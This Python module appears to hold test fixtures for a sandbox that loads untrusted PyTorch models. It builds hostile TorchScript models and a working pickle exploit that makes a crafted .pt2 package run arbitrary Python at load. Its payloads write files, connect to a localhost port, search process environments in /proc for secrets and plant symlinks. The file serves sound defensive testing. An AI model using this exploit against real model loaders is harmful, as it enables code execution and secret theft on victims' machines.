"""Hostile models for the jail's tests: the digits CNN plus code that tries to get out.

- TorchScript: a scripted forward can call any aten op, among them ``aten::save`` (writes a
  file) and ``aten::from_file`` (reads one). TorchScript has no ``try``, no sockets and no
  access to the environment, so each of these models makes one attempt, unguarded.
- ``.pt2``: ``torch.export.load`` unpickles a constant marked ``use_pickle`` with
  ``torch.load(weights_only=False)``, so a crafted package runs any Python at load. Its
  payload sets the ``offset`` constant that the model adds to its logits: each attempt
  that succeeds adds 1000 to one logit, so a model whose numbers are right made none.
"""

from __future__ import annotations

import io
import json
import zipfile

import torch
from torch import nn

from tests.model_files import pt2_bytes, torchscript_bytes
from tests.trained import trained_digits_cnn

ESCAPE_MARK = 1000.0


class WritesFile(nn.Module):
    """The digits CNN; each forward also writes the batch to ``path``."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.network = trained_digits_cnn()
        self.path = path

    def forward(self, inputs: torch.Tensor) -> torch.Tensor:
        torch.save(inputs.detach(), self.path)
        return self.network(inputs)


class ReadsFile(nn.Module):
    """The digits CNN; each forward first maps ``size`` bytes of the file at ``path``."""

    def __init__(self, path: str, size: int) -> None:
        super().__init__()
        self.network = trained_digits_cnn()
        self.path = path
        self.size = size

    def forward(self, inputs: torch.Tensor) -> torch.Tensor:
        stolen = torch.from_file(self.path, False, self.size, dtype=torch.uint8)
        return self.network(inputs) + 0.0 * stolen.sum().float()


class AllocatesTooMuch(nn.Module):
    """The digits CNN; each forward first asks for ``count`` float32 values."""

    def __init__(self, count: int) -> None:
        super().__init__()
        self.network = trained_digits_cnn()
        self.count = count

    def forward(self, inputs: torch.Tensor) -> torch.Tensor:
        hoard = torch.empty(self.count)
        return self.network(inputs) + 0.0 * hoard[:1].sum()


class Spins(nn.Module):
    """The digits CNN behind a loop that does not end."""

    def __init__(self) -> None:
        super().__init__()
        self.network = trained_digits_cnn()

    def forward(self, inputs: torch.Tensor) -> torch.Tensor:
        count = 0
        while count >= 0:
            count = (count + 1) % 1000
        return self.network(inputs)


def torchscript_writing(path: str) -> bytes:
    """TorchScript whose forward writes ``path``."""
    return torchscript_bytes(WritesFile(path))


def torchscript_reading(path: str, size: int) -> bytes:
    """TorchScript whose forward reads ``size`` bytes of ``path``."""
    return torchscript_bytes(ReadsFile(path, size))


def torchscript_allocating(count: int) -> bytes:
    """TorchScript whose forward allocates ``count`` float32 values."""
    return torchscript_bytes(AllocatesTooMuch(count))


def torchscript_spinning() -> bytes:
    """TorchScript whose forward never returns."""
    return torchscript_bytes(Spins())


class WithOffset(nn.Module):
    """The digits CNN plus a constant offset (a plain tensor attribute, which
    ``torch.export`` lifts into the package's constants)."""

    def __init__(self) -> None:
        super().__init__()
        self.network = trained_digits_cnn()
        self.offset = torch.zeros(10)

    def forward(self, inputs: torch.Tensor) -> torch.Tensor:
        return self.network(inputs) + self.offset


class _RunsAtLoad:
    """Unpickles as ``eval(expression)``."""

    def __init__(self, expression: str) -> None:
        self.expression = expression

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (eval, (self.expression,))


def pt2_running(code: str) -> bytes:
    """A ``.pt2`` of :class:`WithOffset` whose ``offset`` constant is the variable
    ``tensor`` that ``code`` sets, running ``code`` (any Python) when the package loads."""
    original = pt2_bytes(WithOffset(), torch.rand(2, 1, 8, 8))
    pickled = io.BytesIO()
    expression = f"(namespace := {{}}, exec({code!r}, namespace), namespace['tensor'])[2]"
    torch.save(_RunsAtLoad(expression), pickled)
    output = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(original)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_STORED) as target,
    ):
        config_name = next(
            name for name in source.namelist() if name.endswith("model_constants_config.json")
        )
        config = json.loads(source.read(config_name))
        (entry,) = config["config"].values()
        entry["use_pickle"] = True
        payload_name = config_name.rsplit("/", 1)[0] + "/" + entry["path_name"]
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == config_name:
                data = json.dumps(config).encode()
            elif info.filename == payload_name:
                data = pickled.getvalue()
            target.writestr(info.filename, data)
    return output.getvalue()


def pt2_escaping(canary: str, port: int, secret: str, artifact: str) -> bytes:
    """A ``.pt2`` that tries, at load: writing ``canary``; connecting to 127.0.0.1:``port``;
    finding ``secret`` in its environment or any visible process's; reading ``artifact``.
    Logit ``k`` gains 1000 if attempt ``k`` succeeded."""
    code = f"""
import os, socket, torch
tensor = torch.zeros(10)
def attempt(index, action):
    try:
        action()
    except Exception:
        return
    tensor[index] = {ESCAPE_MARK}
def write():
    with open({canary!r}, "w") as handle:
        handle.write("escaped")
def connect():
    socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
def environment():
    if {secret!r} in os.environ.get("GAUNTLET_DATABASE_URL", ""):
        return
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{{pid}}/environ", "rb") as handle:
                if {secret!r}.encode() in handle.read():
                    return
        except OSError:
            pass
    raise LookupError("the secret is nowhere")
def artifact():
    with open({artifact!r}, "rb") as handle:
        handle.read()
attempt(0, write)
attempt(1, connect)
attempt(2, environment)
attempt(3, artifact)
"""
    return pt2_running(code)


def pt2_writing_garbage() -> bytes:
    """A ``.pt2`` that writes a line that is not JSON into the jail's message pipe."""
    return pt2_running(
        "import os, sys, torch\n"
        "fd = int(sys.argv[sys.argv.index('--message-fd') + 1])\n"
        "os.write(fd, b'this is not a protocol message\\n')\n"
        "tensor = torch.zeros(10)\n"
    )


def pt2_exiting() -> bytes:
    """A ``.pt2`` whose load raises ``SystemExit`` (which no loader catches)."""
    return pt2_running("raise SystemExit(3)\n")


def pt2_segfaulting() -> bytes:
    """A ``.pt2`` whose load kills its own process with SIGSEGV."""
    return pt2_running("import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)\n")


def pt2_sleeping(seconds: float) -> bytes:
    """A ``.pt2`` whose load sleeps."""
    return pt2_running(f"import time, torch\ntime.sleep({seconds})\ntensor = torch.zeros(10)\n")


def pt2_leaving_outputs(files: dict[str, str], links: dict[str, str]) -> bytes:
    """A ``.pt2`` that, at load, writes ``files`` (name: text) and symbolic ``links`` (name:
    target) into a namespace jail's output folder."""
    return pt2_running(
        "import os, torch\n"
        f"for name, text in {files!r}.items():\n"
        "    open(os.path.join('/job/outputs', name), 'w').write(text)\n"
        f"for name, target in {links!r}.items():\n"
        "    os.symlink(target, os.path.join('/job/outputs', name))\n"
        "tensor = torch.zeros(10)\n"
    )
